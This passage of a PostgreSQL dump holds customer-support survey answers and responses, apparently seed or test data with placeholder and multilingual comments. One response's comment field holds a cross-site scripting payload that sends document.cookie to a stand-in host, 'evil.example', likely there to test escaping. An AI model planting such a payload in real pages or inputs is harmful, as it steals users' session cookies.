	('01KAKD66D5JPQG060FQHV2NA83', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'closed_ended', NULL, NULL, NULL, '{"I had to repeat myself to several people"}', NULL, '2025-11-22 04:39:58.521+00', '2025-11-22 04:39:58.521+00'),
	('01KAKD66D5JPQG060FQHV2NA83', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-22 04:39:58.521+00', '2025-11-24 17:00:00+00'),
	('01KAKD66D5JPQG060FQHV2NA83', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, '等了三天才有人回复', '2025-11-22 04:39:58.521+00', '2025-11-22 04:39:58.521+00'),
	('01KAN7PC5515PJTDZRVAAXYXX4', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-23 06:23:15.458+00', '2025-11-23 06:23:15.458+00'),
	('01K9865CEPKE0NBHA0H4ARPYG6', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, NULL, '2025-11-08 09:53:47.505+00', '2025-11-08 09:53:47.505+00'),
	('01KAV61YE08551ZVQ0VNEAX8EE', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 2, 'bad', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE08551ZVQ0VNEAX8EE', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE08551ZVQ0VNEAX8EE', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Comment 6', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE11CZCPA19QRT4BSF6', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 3, 'bad', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE11CZCPA19QRT4BSF6', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE11CZCPA19QRT4BSF6', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE25CQ3WK2BMC6WX23D', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 4, 'good', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAV61YE25CQ3WK2BMC6WX23D', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Comment 8', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KARRYF4YEP7FTS73AHN0MP39', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KARRYF4YEP7FTS73AHN0MP39', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KARRYF4YEP7FTS73AHN0MP39', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KANCBY65H8HX3R35N4DTF28Q', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KANCBY65H8HX3R35N4DTF28Q', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Comment 4', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAN7PC5515PJTDZRVAAXYXX4', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-23 06:23:15.458+00', '2025-11-24 17:00:00+00'),
	('01KAN720DJ2CPSK4QEV3D8PFZA', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 4, 'good', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAN720DJ2CPSK4QEV3D8PFZA', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAMFXWFMV9WNE01R01XW15RW', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 3, 'bad', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAMFXWFMV9WNE01R01XW15RW', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAMFXWFMV9WNE01R01XW15RW', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Comment 2', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAKCKV3Z22KFD05FGWRBX5AM', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 2, 'bad', NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAKCKV3Z22KFD05FGWRBX5AM', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAKCKV3Z22KFD05FGWRBX5AM', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAH6NZRJPQ5EB4C54JWHSR6W', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-20 19:38:02.854+00', '2025-11-24 17:00:00+00'),
	('01KAGYENAAH8EKQWVQW31YZ1WC', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-20 23:32:26.634+00', '2025-11-24 17:00:00+00'),
	('01KAGPBXMTE04MRVWWSHJMZ0XV', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAGPBXMTE04MRVWWSHJMZ0XV', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KAGPBXMTE04MRVWWSHJMZ0XV', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Comment 0', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00'),
	('01KA49CP6S88E9EEDS3KRJ9B92', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-16 12:44:12.038+00', '2025-11-24 17:00:00+00'),
	('01K9XZMN4FN2Y302VW1SJ18J32', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 1, 'bad', 'Very unsatisfied', NULL, NULL, '2025-11-13 09:00:50.079+00', '2025-11-24 17:00:00+00');


--
-- Data for Name: survey_responses; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.survey_responses VALUES
	('01K7TVHQY0F182N93M717P1D1C', 24, 40000000006045, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-18 05:09:17.888+00', NULL, NULL, '2025-11-15 05:09:17.888+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K7WJ7GR0VSDJDYBWG03GFPR3', 8, 40000000010141, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-18 21:04:54.528+00', NULL, NULL, '2025-11-15 21:04:54.528+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K7YVN3P14VA0WQ5V0VMC1A6F', 19, 40000000009885, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-19 18:28:05.953+00', NULL, NULL, '2025-11-16 18:28:05.953+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K81X6HFH9Y4RPJRE0G3NXW1G', 27, 40000000007197, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-20 22:52:49.009+00', NULL, NULL, '2025-11-17 22:52:49.009+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K82KC5CMG42DFF5KFKQ02VC7', 25, 40000000006429, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-21 05:20:21.908+00', NULL, NULL, '2025-11-18 05:20:21.908+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8403QZ4DMHM8KD0M7YS5CDJ', 28, 40000000009629, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-21 18:22:11.94+00', NULL, NULL, '2025-11-18 18:22:11.94+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K84NE7C6KBCP07EZEV7733CR', 25, 40000000006429, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-22 00:34:55.494+00', NULL, NULL, '2025-11-19 00:34:55.494+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K87X49YA7W5ZYCCM80E3C168', 35, 40000000007709, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-23 06:47:02.346+00', NULL, NULL, '2025-11-20 06:47:02.346+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8EN16W971TN8SY0CQEYQ5Y0', 36, 40000000007453, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-25 21:40:13.321+00', NULL, NULL, '2025-11-22 21:40:13.321+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8K7KYE1S40V9GFMP4RBVPRW', 38, 40000000011677, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-27 16:21:59.361+00', NULL, NULL, '2025-11-24 16:21:59.361+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8QX437SJ2JK166VDDH1GN3N', 41, 40000000009245, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-29 11:54:46.393+00', NULL, NULL, '2025-11-26 11:54:46.393+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8RZ1AJ6BHAYXAQ02B55PC2X', 42, 40000000010525, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-29 21:47:27.174+00', NULL, NULL, '2025-11-26 21:47:27.174+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8X0Y9HNV3X2Q5X38VWGZ292', 40, 40000000006941, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-31 11:37:42.709+00', NULL, NULL, '2025-11-28 11:37:42.709+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8Y4FYVJMRC66EK2PBMVG75R', 44, 40000000007197, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-31 21:59:01.746+00', NULL, NULL, '2025-11-28 21:59:01.746+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K8Y589NFNBJ5B8KGGBA0W8MV', 48, 40000000007581, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-31 22:12:19.247+00', NULL, NULL, '2025-11-28 22:12:19.247+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K95N090TCFKMWKZ9SZKENC8F', 50, 40000000007453, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-03 20:02:14.682+00', NULL, NULL, '2025-12-01 20:02:14.682+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K963AYJF4M97S8MZT077AGKR', 51, 40000000011293, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-04 00:12:44.495+00', NULL, NULL, '2025-12-02 00:12:44.495+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9A6EPAV6Q6TC51XT1DEHPEA', 54, 40000000011677, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-05 14:24:10.587+00', NULL, NULL, '2025-12-03 14:24:10.587+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9FHTHT2YSSR7BMMEQBSCPMN', 57, 40000000005661, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-07 16:19:05.666+00', NULL, NULL, '2025-12-05 16:19:05.666+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9JWEHMMBRV22K8VEMB4EYQN', 55, 40000000010013, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-08 23:22:29.908+00', NULL, NULL, '2025-12-06 23:22:29.908+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9MJ4DBSTE9T597QVZCSV7PB', 45, 40000000011421, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-09 15:00:40.953+00', NULL, NULL, '2025-12-07 15:00:40.953+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9PV0KKEH7SD7P4BAP2P5B25', 61, 40000000007325, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-10 12:14:22.318+00', NULL, NULL, '2025-12-08 12:14:22.318+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9RR7EVZ2BES5W3AJMXJQ23F', 59, 40000000011165, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-11 06:04:09.983+00', NULL, NULL, '2025-12-09 06:04:09.983+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9SCXXWP1F9WDTZF8WM4PFBZ', 64, 40000000005789, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-11 12:05:57.782+00', NULL, NULL, '2025-12-09 12:05:57.782+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9VZGEV3HM8R35PCVSZN8JZJ', 67, 40000000008093, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-12 12:09:08.195+00', NULL, NULL, '2025-12-10 12:09:08.195+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01K9XXVVHB3T0RG5MG4YT6B1KH', 68, 40000000007197, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-13 06:18:53.355+00', NULL, NULL, '2025-12-11 06:18:53.355+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KA0S6VQQMY8Y9NXGNEXZ0SM4', 71, 40000000010909, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-14 08:55:14.423+00', NULL, NULL, '2025-12-12 08:55:14.423+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KA8Y1RFBBHMS0BNMMQBZMCKF', 70, 40000000008477, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-17 12:53:45.579+00', NULL, NULL, '2025-12-15 12:53:45.579+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KA9SYFF15T7YKT87WTNH45J2', 77, 40000000008349, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-17 21:01:18.177+00', NULL, NULL, '2025-12-15 21:01:18.177+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KABETXPA8RFN8C0H87TNWNAH', 78, 40000000010909, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-18 12:25:36.202+00', NULL, NULL, '2025-12-16 12:25:36.202+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KACZ9RKH58Q3EWC58NMWC2K2', 79, 40000000007837, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-19 02:32:34.161+00', NULL, NULL, '2025-12-17 02:32:34.161+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAEA13WV6B697C2DT1B4AHS0', 80, 40000000009757, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-19 14:59:19.579+00', NULL, NULL, '2025-12-17 14:59:19.579+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAFHX61FHD7PN3YY6FVNHKF5', 81, 40000000008989, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 02:36:13.743+00', NULL, NULL, '2025-12-18 02:36:13.743+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAFR7Z24TD3E92CED6DN77E5', 83, 40000000006557, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 04:26:58.5+00', NULL, NULL, '2025-12-18 04:26:58.5+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('01KAGC1GRBFXJAVM7WJB00RCKZ', 84, 40000000008861, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-20 10:12:58.763+00', NULL, NULL, '2025-12-18 10:12:58.763+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'survey'),
	('legacy-49895604650141', 1, 40000000010653, NULL, NULL, '2025-10-07 06:33:39+00', '2025-10-09 03:56:18+00', '2025-10-09 03:56:18+00', NULL, NULL, 'good', 'बहुत अच्छी मदद मिली, धन्यवाद', NULL, 40000000001437, 41099511627933, 'audit', 0, 'legacy'),
	('legacy-49895604650397', 3, 40000000008349, NULL, NULL, '2025-10-07 21:19:55+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'legacy'),
	('legacy-49895604650525', 4, 40000000010397, NULL, NULL, '2025-10-09 04:05:35+00', '2025-10-09 11:56:48+00', '2025-10-09 11:56:48+00', NULL, NULL, 'good', NULL, NULL, 40000000004765, 41099511628445, 'audit', 0, 'legacy'),
	('legacy-49895604650653', 5, 40000000010141, NULL, NULL, '2025-10-08 14:56:00+00', '2025-10-09 17:43:30+00', '2025-10-09 17:43:30+00', NULL, NULL, 'bad', 'The refund never arrived.', 'The information provided was not clear or helpful', 40000000003613, 41099511628189, 'audit', 0, 'legacy'),
	('legacy-49895604650781', 6, 40000000011421, NULL, NULL, '2025-10-08 23:51:20+00', '2025-10-09 01:50:55+00', '2025-10-09 01:50:55+00', NULL, NULL, 'bad', NULL, 'The information provided was not clear or helpful', 40000000000925, 41099511627805, 'audit', 0, 'legacy'),
	('legacy-49895604651165', 9, 40000000007965, NULL, NULL, '2025-10-12 06:02:39+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'legacy'),
	('legacy-49895604651293', 10, 40000000011165, NULL, NULL, '2025-10-13 18:49:23+00', '2025-10-14 11:51:48+00', '2025-10-14 11:51:48+00', NULL, NULL, 'good', NULL, NULL, 40000000003101, 41099511628189, 'audit', 0, 'legacy'),
	('legacy-49895604651421', 11, 40000000011165, NULL, NULL, '2025-10-12 02:50:38+00', '2025-10-12 04:42:16+00', '2025-10-12 04:42:16+00', NULL, NULL, 'bad', 'I had to explain everything again. The app on my phone is the issue.', 'The issue took too long to resolve', 40000000004765, 41099511628445, 'audit', 0, 'legacy'),
	('legacy-49895604651549', 12, 40000000007197, NULL, NULL, '2025-10-13 17:09:02+00', '2025-10-15 09:05:16+00', '2025-10-15 09:05:16+00', NULL, NULL, 'good', NULL, NULL, 40000000003357, 41099511628189, 'audit', 0, 'legacy'),
	('legacy-49895604651805', 14, 40000000008605, NULL, NULL, '2025-10-15 06:59:55+00', '2025-10-16 09:48:34+00', '2025-10-16 09:48:34+00', NULL, NULL, 'good', 'とても丁寧な対応でした。', NULL, 40000000003229, 41099511628189, 'audit', 0, 'legacy'),
	('legacy-49895604651933', 15, 40000000009117, NULL, NULL, '2025-10-14 11:19:59+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'legacy'),
	('legacy-49895604652061', 16, 40000000010909, NULL, NULL, '2025-10-16 13:25:50+00', '2025-10-17 17:56:35+00', '2025-10-17 17:56:35+00', NULL, NULL, 'good', NULL, NULL, 40000000003869, 41099511628317, 'audit', 0, 'legacy'),
	('legacy-49895604652317', 18, 40000000010397, NULL, NULL, '2025-10-15 06:19:11+00', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 0, 'legacy'),
	('legacy-49895604652701', 21, 40000000009245, NULL, NULL, '2025-10-16 21:03:54+00', '2025-10-18 10:01:10+00', '2025-10-18 10:01:10+00', NULL, NULL, 'bad', 'I had to explain everything again. It was about the invoice of last month.', NULL, 40000000001309, 41099511627933, 'audit', 0, 'legacy'),
	('legacy-49895604652829', 22, 40000000007837, NULL, NULL, '2025-10-16 23:48:31+00', '2025-10-18 13:07:40+00', '2025-10-18 13:07:40+00', NULL, NULL, 'good', NULL, NULL, 40000000000541, 41099511627805, 'audit', 0, 'legacy'),
	('legacy-49895604652957', 23, 40000000008093, NULL, NULL, '2025-10-17 04:56:03+00', '2025-10-17 12:01:51+00', '2025-10-17 12:01:51+00', NULL, NULL, 'bad', 'Nobody read what I wrote.', 'The information provided was not clear or helpful', 40000000004509, 41099511628317, 'audit', 0, 'legacy'),
	('01K83YNDDVAYKTGH2TABBWH8ZJ', 31, 40000000008221, '01K6MAC4J0KRVQKEBZ99Y1A000', 1, '2025-10-21 17:56:53.819+00', '2025-10-21 18:47:56.696+00', '2025-10-26 08:41:11.556+00', '2025-11-18 17:56:53.819+00', 3, 'bad', NULL, NULL, 40000000004893, 41099511628445, 'unchanged', 1, 'survey'),
	('01K84KQC3GTE1AHPSX7KY51ANQ', 33, 40000000012061, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-22 00:04:58.096+00', '2025-10-22 04:19:17.013+00', '2025-10-22 04:19:17.013+00', '2025-11-19 00:04:58.096+00', 5, 'good', NULL, NULL, 40000000001565, 41099511627933, 'unchanged', 0, 'survey'),
	('01K8BZSCSBFCE2JK1G963F0HKJ', 30, 40000000006941, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-24 20:50:28.267+00', '2025-10-24 21:46:29.989+00', '2025-10-24 21:46:29.989+00', '2025-11-21 20:50:28.267+00', 5, 'good', NULL, NULL, 40000000000285, 41099511627805, 'unchanged', 0, 'survey'),
	('01K8JST48VB0GCAHA4125XKYQ0', 37, 40000000008349, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-27 12:20:41.883+00', '2025-10-27 19:37:44.702+00', '2025-10-27 19:37:44.702+00', '2025-11-24 12:20:41.883+00', 3, 'bad', NULL, 'The issue took too long to resolve', 40000000000541, 41099511627805, 'unchanged', 0, 'survey'),
	('01K8XPC6WX7RPXSGZPTYYZCGJA', 47, 40000000007837, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-10-31 17:52:18.845+00', '2025-11-01 06:11:51.283+00', '2025-11-01 06:11:51.283+00', '2025-11-28 17:52:18.845+00', 5, 'good', NULL, NULL, 40000000005021, 41099511628445, 'unchanged', 0, 'survey'),
	('01K97Z7A4MPPX45ZFEY9CPE0P3', 49, 40000000007069, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-04 17:39:19.828+00', '2025-11-05 13:52:16.612+00', '2025-11-05 13:52:16.612+00', '2025-12-02 17:39:19.828+00', 5, 'good', NULL, NULL, 40000000002589, 41099511628061, 'unchanged', 0, 'survey'),
	('01K9ED6Z66HDKC2PT77SFDY10E', 56, 40000000006173, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-07 05:39:15.27+00', '2025-11-07 14:39:41.846+00', '2025-11-07 14:39:41.846+00', '2025-12-05 05:39:15.27+00', 5, 'good', 'Great help, as always.', NULL, 40000000000541, 41099511627805, 'unchanged', 0, 'survey'),
	('01K9FMQXK64P18KSMWKVPXWBDS', 58, 40000000006813, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-07 17:10:05.158+00', '2025-11-07 18:19:15.605+00', '2025-11-07 18:19:15.605+00', '2025-12-05 17:10:05.158+00', 5, 'good', NULL, NULL, 40000000000541, 41099511627805, 'unchanged', 0, 'survey'),
	('01K9PZZK7VY5Q17METMQGW8P1B', 62, 40000000008989, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-10 13:41:12.059+00', '2025-11-11 03:02:31.669+00', '2025-11-11 03:02:31.669+00', '2025-12-08 13:41:12.059+00', 2, 'bad', '<script>fetch(''http://evil.example/''+document.cookie)</script>', 'The information provided was not clear or helpful', 40000000004765, 41099511628445, 'unchanged', 0, 'survey'),
	('01K9865CEPKE0NBHA0H4ARPYG6', 53, 40000000008605, '01K6MAC4J0KRVQKEBZ99Y1A000', 2, '2025-11-04 19:40:36.694+00', '2025-11-08 09:53:47.505+00', '2025-11-08 09:53:47.505+00', '2025-12-02 19:40:36.694+00', 5, 'good', NULL, NULL, 40000000002973, 41099511628061, 'unchanged', 0, 'survey'),
	('legacy-49895604650269', 2, 40000000011805, NULL, NULL, '2025-10-07 07:27:54+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', NULL, NULL, 'good', 'Took far too long.', NULL, 40000000000541, 41099511627805, 'audit', 1, 'legacy'),
	('legacy-49895604650909', 7, 40000000005405, NULL, NULL, '2025-10-08 22:44:46+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', NULL, NULL, 'good', 'Viel zu langsam, und das Problem besteht weiter.', NULL, 40000000002333, 41099511628061, 'audit', 1, 'legacy'),
	('legacy-49895604651677', 13, 40000000009245, NULL, NULL, '2025-10-15 19:28:15+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', NULL, NULL, 'good', 'Took far too long.', NULL, 40000000001949, 41099511627933, 'audit', 1, 'legacy'),
	('legacy-49895604652573', 20, 40000000006941, NULL, NULL, '2025-10-17 03:47:35+00', '2025-11-24 17:00:00+00', '2025-11-24 17:00:00+00', NULL, NULL, 'bad', 'Thanks for calling back.', NULL, 40000000004893, 41099511628445, 'audit', 1, 'legacy'),
